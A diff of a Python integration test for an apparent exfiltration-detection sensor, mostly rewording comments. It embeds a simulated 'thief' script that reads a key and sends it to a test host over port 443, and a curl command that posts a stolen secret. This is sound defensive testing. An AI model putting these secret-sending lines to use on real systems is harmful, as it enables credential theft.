@@ -1,10 +1,10 @@
 #!/usr/bin/env python3
 # SPDX-License-Identifier: GPL-2.0-or-later
-"""Marks stay where the secret is. A busy system, which compiles, logs, talks over the message bus, pipes, packs, and logs
-in, and again and again goes to the network; amid it thieves who also log the secret, put it into the bus and leave it in
-files that nobody reads. Every theft is told, and nobody else's doings.
+"""Marks do not spread beyond the secret. A busy system compiles, logs, uses the message bus and pipes, archives files,
+logs in, and connects to the network again and again. Meanwhile thieves steal, and also log the secret, send it over the
+bus and leave it in files that no process reads. Every theft raises an alert, and nothing else does.
 
-usage: test-discipline.py [--long] (10 minutes instead of half of one)"""
+usage: test-discipline.py [--long] (10 minutes instead of 30 seconds)"""
 
 import contextlib
 import os
@@ -15,7 +15,7 @@ import tempfile
 import time
 
 HERE = os.path.dirname(os.path.abspath(__file__))
-sys.path[:0] = [os.path.join(HERE, "../lib"), os.path.join(HERE, "../benign")]
+sys.path[:0] = [os.path.join(HERE, "../harness"), os.path.join(HERE, "../benign")]
 
 import scene as stage
 from scene import URL
@@ -27,15 +27,15 @@ from net import HOST_V4
 from tap import Failure, require, require_equal
 
 SECONDS = 600 if "--long" in sys.argv else 30
-# Two thefts a second for ten minutes mark more files and pipes than the default keeps for the hour that keys stay hot: it
-# would say so, as it should.
+# Two thefts per second for ten minutes mark more files and pipes than the default limit allows in an hour, for which
+# the marks of keys are kept: these would be losses.
 SITE_POLICY = "[Correlator]\nMaxMarks=65536\n"
 JOURNALD = "/usr/lib/systemd/systemd-journald"
 JOURNAL, BUS = "/run/systemd/journal", "/run/session-bus"
-# A compile or a log-in on two busy cores.
+# A compilation or a login on two busy cores.
 ROUND_TIMEOUT = 60 * tap.SLOW
 
-# argv: the key, where it is left, the journal's sockets, the bus, where it goes.
+# argv: the key, where it is left, the sockets of the journal, the bus, the destination.
 THIEF = """
 import os, socket, subprocess, sys
 key, left, journal, bus, to = sys.argv[1:]
@@ -50,7 +50,7 @@ subprocess.run(["dbus-send", "--bus=unix:path=" + bus, "/thief", "org.example.Th
 socket.create_connection((to, 443)).sendall(secret)
 """
 
-# One program for all who ask, but no carrier: marked once, it would mark them all.
+# One server for all clients that is not a carrier: marked once, it would mark all of them.
 SERVER = """
 import socketserver, sys
 class Echo(socketserver.StreamRequestHandler):
@@ -66,9 +66,9 @@ with socket.socket(socket.AF_UNIX) as s:
     print(s.recv(6).decode())
 """
 
-# What is done over and over by one shell, which reads what came of it, and would be marked for good by any mark that
-# comes its way: $1 is a directory of its own, $2 the echo server's socket, $3 how to log in. Each round ends on the
-# network.
+# Commands that one shell runs over and over. It reads their output, and would be marked for good by any mark that
+# reached it. $1 is a directory of its own, $2 the socket of the echo server, $3 the command for logging in. Each round
+# ends with a connection to the network.
 ROUNDS = {
     "a compile": """make -s -C "$1" clean; make -s -j2 -C "$1" """,
     "find and xargs": """find /usr/share/doc -name copyright | head -n 300 | xargs cat | sort | uniq -c | tail -n 1""",
@@ -82,10 +82,10 @@ ROUNDS = {
         cat "$f" | while read -r line; do echo "$line"; done; rm "$f" "$f.gz" """,
     "git": """cd "$1"; echo "$n" >file; git add file; git commit -q -m "$n"; git log --oneline | head -n 3""",
     "names of users and hosts": """getent passwd root; getent hosts localhost; id -un""",
-    # 255: not what was run there has failed, but the connection.
+    # 255: the connection failed, not the command.
     "log-ins": """$3 curl -sS $URL || { [ $? = 255 ] && { echo "log-in $n:"; cat "$1/errors"; } >>"$1/broken"; }""",
 }
-# A log-in is there to make load. Of so many, one may break.
+# Logins only make load. Of so many, one may fail.
 LOGINS_PER_BROKEN = 100
 LOOP = """n=0
 while [ -e "$RUN" ]; do
@@ -104,7 +104,7 @@ class Discipline:
         self.left = f"{s.world.root}/left"
         os.mkdir(self.directory)
         os.mkdir(self.left)
-        # The rounds go on as long as it is there.
+        # The rounds continue as long as this file exists.
         self.go_on = f"{self.directory}/run"
         with open(self.go_on, "x", encoding="ascii"):
             pass
@@ -117,7 +117,7 @@ class Discipline:
         return process
 
     def serve(self):
-        """The journal and a message bus of this world, and a server that anybody may ask."""
+        """The journal and a message bus of this world, and a server for everybody."""
         world, echo = self.s.world, f"{self.directory}/echo"
         world.do("sh", "-ec", f"mkdir -p {JOURNAL} /run/dbus /etc/systemd; cat >/etc/systemd/journald.conf",
                  stdin="[Journal]\nStorage=volatile\nReadKMsg=no\nAudit=no\n")
@@ -154,7 +154,7 @@ class Discipline:
         return counts
 
     def require_logins(self, t, server):
-        """A few may break; each is shown."""
+        """A few logins may fail; each is shown."""
         broken = f"{self.workers['log-ins'][1]}/broken"
         if not os.path.exists(broken):
             return
@@ -174,7 +174,8 @@ class Discipline:
         key, content = self.s.home.key()
         left = f"{self.left}/{len(self.thieves)}"
         thief = self.s.net.popen(
-            self.s.world.command("root", ["/usr/bin/python3", "-c", THIEF, os.fsdecode(key), left, JOURNAL, BUS, HOST_V4]),
+            self.s.world.command("root", ["/usr/bin/python3", "-c", THIEF, os.fsdecode(key), left, JOURNAL, BUS,
+                                          HOST_V4]),
             stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
         self.thieves[thief.pid] = left
         said = thief.communicate(timeout=ROUND_TIMEOUT)[1]
@@ -186,15 +187,15 @@ class Discipline:
     def require_silence(self):
         self.s.bw.prove_delivered(self.s.net, self.s.home)
         noise = [a for a in self.s.alerts_since(0) if a["process"]["pid"] not in self.thieves]
-        told = "\n".join(f"{a['process']['exe']} {a['process']['cmdline']}: {a['files'][:2]} {a['destination']}"
+        text = "\n".join(f"{a['process']['exe']} {a['process']['cmdline']}: {a['files'][:2]} {a['destination']}"
                          for a in noise[:3])
-        require(not noise, f"{len(noise)} alerts about others, the first:\n{told}")
+        require(not noise, f"{len(noise)} alerts about others, the first:\n{text}")
 
 
 def busy(t, d, server):
     d.set_up()
     wanted = set(ROUNDS)
-    # Everybody has been on the network once before anything is stolen, and goes there again after the last theft.
+    # Every command has used the network before anything is stolen, and uses it again after the last theft.
     d.s.bw.wait(lambda: d.require_busy() or set(d.rounds()) == wanted, ROUND_TIMEOUT, "a first round of all")
     d.require_silence()
     end = time.monotonic() + SECONDS
@@ -214,13 +215,14 @@ def busy(t, d, server):
 
 
 def followed(d):
-    """What tells a silence from a watch that follows nothing: a thief's secret, taken from where he left it."""
+    """Proves that the silence is not that of a sensor that follows nothing: the secret of a thief is read where it was
+    left."""
     require(d.thieves, "nobody stole")
-    # What the server says to it is of no interest.
+    # The answer of the server does not matter.
     d.s.run(["/bin/sh", "-c", f"cat {next(iter(d.thieves.values()))} | curl -sS -o /dev/null -d @- {URL}"])
     alert = d.s.bw.wait_alert(lambda a: a["process"]["comm"] == "curl", "curl's")
-    vias = [hop["via"] for hop in alert["files"][0]["way"]]
-    require_equal(vias[-2:], ["file", "pipe"], "the way")
+    vias = [hop["via"] for hop in alert["files"][0]["route"]]
+    require_equal(vias[-2:], ["file", "pipe"], "the route")
 
 
 @contextlib.contextmanager
@@ -238,9 +240,9 @@ def main():
             contextlib.ExitStack() as stack:
         login = " ".join(["ssh", *server.options("root"), f"root@{HOST_V4}"]) if server.process else "env"
         d = Discipline(s, stack, login)
-        t.case(f"{SECONDS} s of a busy system: each theft is told, and nobody else", busy, t, d, server)
-        t.case("who reads what a thief left is told", followed, d)
-        t.case("no loss", stage.whole, s.bw)
+        t.case(f"{SECONDS} s of a busy system: an alert for each theft, and no other", busy, t, d, server)
+        t.case("an alert for reading what a thief left", followed, d)
+        t.case("no loss", stage.no_loss, s.bw)
     t.done()
 
 
